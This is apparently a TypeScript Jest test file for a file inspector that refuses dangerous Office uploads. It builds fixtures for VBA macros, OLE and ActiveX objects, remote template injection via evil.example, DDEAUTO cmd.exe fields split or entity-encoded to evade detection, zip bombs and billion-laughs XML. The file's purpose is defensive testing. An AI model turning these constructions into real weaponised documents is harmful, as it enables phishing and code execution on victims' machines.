import { expect, test } from '@jest/globals'
import { inspect } from './inspect.ts'
import { defaultLimits } from './limits.ts'
import { makeDocx, makePptx, makeXlsx } from './office.fixture.ts'
import { FileRefusal } from './refusal.ts'
import { makeZip, type ZipPart } from './zip.fixture.ts'

const office = 'application/vnd.openxmlformats-officedocument'

const codeOf = async (bytes: Uint8Array, name: string): Promise<string> => {
  const error: unknown = await inspect(bytes, { name }, defaultLimits).catch(
    (thrown: unknown) => thrown,
  )
  return error instanceof FileRefusal ? error.code : `no refusal: ${String(error)}`
}

const docxWith = (...parts: ZipPart[]) => makeDocx(['Текст'], { parts })

const relationsWith = (relation: string): ZipPart => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation}</Relationships>`,
})

const relation = (type: string, target: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`

const macros: [string, Uint8Array, string][] = [
  ['a VBA project', docxWith({ name: 'word/vbaProject.bin', content: 'x' }), 'a.docx'],
  ['a VBA project elsewhere', docxWith({ name: 'custom/VBAPROJECT.BIN', content: 'x' }), 'a.docx'],
  [
    'a DOCM called DOCX',
    makeDocx(['Текст'], { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'a.docx',
  ],
  [
    'Excel 4 macros',
    makeXlsx(['A'], { parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }] }),
    'a.xlsx',
  ],
  ['an OLE object', docxWith({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), 'a.docx'],
  ['an OLE object of another name', docxWith({ name: 'word/object.bin', content: 'x' }), 'a.docx'],
  ['ActiveX', docxWith({ name: 'word/activeX/activeX1.xml', content: '<a/>' }), 'a.docx'],
  ['a program', docxWith({ name: 'word/media/setup.exe', content: 'MZ' }), 'a.docx'],
  [
    'a template from elsewhere',
    docxWith(relationsWith(relation('attachedTemplate', 'https://evil.example/a.dotm'))),
    'a.docx',
  ],
  [
    'a template from a share',
    docxWith(relationsWith(relation('attachedTemplate', '\\\\evil.example\\a.dotm'))),
    'a.docx',
  ],
  [
    'a template from a share, with slashes',
    docxWith(relationsWith(relation('attachedTemplate', '//evil.example/a.dotm'))),
    'a.docx',
  ],
  [
    'a template with numbers for letters',
    docxWith(relationsWith(relation('attached&#x54;emplate', 'ht&#116;ps://evil.example/a.dotm'))),
    'a.docx',
  ],
  [
    'a template behind a value with a bracket',
    docxWith(
      relationsWith(
        relation('attachedTemplate', 'https://evil.example/a.dotm').replace('Id="r1"', 'Id="r>1"'),
      ),
    ),
    'a.docx',
  ],
  [
    'a linked OLE object',
    docxWith(relationsWith(relation('oleObject', 'mhtml:http://evil.example/a!x'))),
    'a.docx',
  ],
  [
    'a DDE field',
    docxWith({
      name: 'word/header1.xml',
      content: '<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>',
    }),
    'a.docx',
  ],
  [
    'a DDE field in pieces',
    docxWith({
      name: 'word/header1.xml',
      content:
        '<w:instrText xml:space="preserve"> DD</w:instrText><w:instrText>E cmd </w:instrText>',
    }),
    'a.docx',
  ],
  ...[
    `<x:instrText>DDE cmd</x:instrText>`,
    `<w:fldSimple w:instr='DDE cmd "a"'/>`,
    '<w:instrText><![CDATA[DDE cmd]]></w:instrText>',
    '<w:instrText>D<!-- - -->DE cmd</w:instrText>',
    '<w:instrText>D&#68;&#x45; cmd</w:instrText>',
  ].map((content): [string, Uint8Array, string] => [
    `a DDE field as ${content}`,
    docxWith({ name: 'word/header1.xml', content }),
    'a.docx',
  ]),
  [
    'a DDE link',
    makeXlsx(['A'], {
      parts: [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
      ],
    }),
    'a.xlsx',
  ],
  [
    'a slide that starts a program',
    makePptx(['A'], {
      parts: [
        { name: 'ppt/slides/slide9.xml', content: '<a:hlinkClick action="ppaction://program"/>' },
      ],
    }),
    'a.pptx',
  ],
]

test.each(macros)('%s is refused', async (_, bytes, name) => {
  expect(await codeOf(bytes, name)).toBe('macros')
})

test('links that a reader follows, pictures and printer settings are no macros', async () => {
  const link = {
    ...relationsWith(relation('hyperlink', 'https://example.org/')),
    name: 'word/_rels/document.xml.rels',
  }
  const printer = { name: 'xl/printerSettings/printerSettings1.bin', content: 'x' }
  expect(await codeOf(docxWith(link), 'a.docx')).toMatch(/^no refusal/)
  expect(await codeOf(makeXlsx(['A'], { parts: [printer] }), 'a.xlsx')).toMatch(/^no refusal/)
})

test('archives within, with passwords, of bombs, and cut ones', async () => {
  const inner = makeZip([{ name: 'a.txt', content: 'x' }])
  expect(await codeOf(docxWith({ name: 'word/media/a.png', content: inner }), 'a.docx')).toBe(
    'nested',
  )
  expect(await codeOf(docxWith({ name: 'word/a.zip', content: 'x' }), 'a.docx')).toBe('nested')
  const secret = { name: 'word/secret.xml', content: 'x', isEncrypted: true }
  expect(await codeOf(docxWith(secret), 'a.docx')).toBe('encrypted')
  const bomb = { name: 'word/media/a.xml', content: Buffer.alloc(8_000_000) }
  expect(await codeOf(docxWith(bomb), 'a.docx')).toBe('bomb')
  expect(await codeOf(docxWith({ ...bomb, declaredSize: 10 }), 'a.docx')).toMatch(/bomb|broken/)
  expect(await codeOf(docxWith().subarray(0, 400), 'a.docx')).toBe('broken')
})

test('a password makes it an older kind of file, which is refused too', async () => {
  const compound = Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(600),
  ])
  expect(await codeOf(compound, 'a.docx')).toBe('encrypted')
  expect(await codeOf(compound, 'a.doc')).toBe('encrypted')
})

test('an archive that is no Office file, or says to be another', async () => {
  expect(await codeOf(makeZip([{ name: 'a.txt', content: 'x' }]), 'a.zip')).toBe('unsupported')
  const jar = makeZip([
    { name: 'META-INF/MANIFEST.MF', content: 'x' },
    { name: 'A.class', content: 'x' },
  ])
  expect(await codeOf(jar, 'a.docx')).toBe('unsupported')
  const lying = makeDocx(['a'], { mainType: `${office}.spreadsheetml.sheet.main+xml` })
  expect(await codeOf(lying, 'a.docx')).toBe('unsupported')
})

test('entities of a document type are refused before any parser sees them', async () => {
  const laughs = '<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c "ha">]><a>&b;</a>'
  expect(await codeOf(docxWith({ name: 'word/footnotes.xml', content: laughs }), 'a.docx')).toBe(
    'unsupported',
  )
  const wide = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(laughs, 'utf16le')])
  expect(await codeOf(docxWith({ name: 'word/footnotes.xml', content: wide }), 'a.docx')).toBe(
    'unsupported',
  )
})
